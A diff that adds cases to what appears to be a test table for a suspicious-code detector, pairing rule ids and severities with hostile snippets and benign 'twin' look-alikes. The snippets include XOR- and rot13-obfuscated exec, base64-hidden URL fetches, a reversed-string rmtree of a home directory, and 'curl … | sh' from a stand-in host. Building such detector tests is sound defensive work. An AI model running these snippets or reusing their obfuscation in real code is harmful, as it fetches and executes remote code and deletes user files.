@@ -83,6 +83,27 @@ CASES: Final = (
         "high",
         "import codecs, threading\nthreading.Thread(target=exec, args=(codecs.decode('cnff', 'rot13'),)).start()\n",
     ),
+    Case(
+        "C1",
+        "evasion",
+        "high",
+        "def shown(data, key):\n    return bytes(one ^ key for one in data)\nexec(shown(open('x').read(), 7))\n",
+    ),
+    Case("C1", "twin", None, "def f(a, b):\n    exec('x = 1')\n    return a ^ b\n"),
+    Case(
+        "C2",
+        "hit",
+        "medium",
+        "import requests, base64\nrequests.get(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv').decode())\n",
+    ),
+    Case("C2", "hit", "medium", "import shutil\nshutil.rmtree('emoh/'[::-1])\n"),
+    Case(
+        "C2",
+        "twin",
+        None,
+        "import requests, base64\nrequests.get('https://example.invalid/', base64.b64decode('YS9i'))\n"
+        "requests.get(base64.b64decode('YWJj').decode())\n",
+    ),
     Case("C3", "hit", "high", "import requests\ndef f():\n    exec(requests.get('https://example.invalid/x').text)\n"),
     Case("C3", "hit", "high", "import os\ndef f():\n    os.system('curl -s https://example.invalid/x | sh')\n"),
     Case(
